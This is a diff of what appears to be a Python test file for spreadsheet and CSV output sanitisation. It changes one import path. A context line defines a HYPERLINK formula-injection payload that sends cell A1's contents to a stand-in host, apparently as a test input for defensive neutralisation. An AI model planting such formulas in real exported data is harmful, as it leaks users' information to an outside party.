@@ -20,7 +20,7 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from appraisal.inert import csv_text, formula_like, plain, xlsx_value
+from appraisal.results.inert import csv_text, formula_like, plain, xlsx_value
 from outside import require_program
 
 HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"click")'
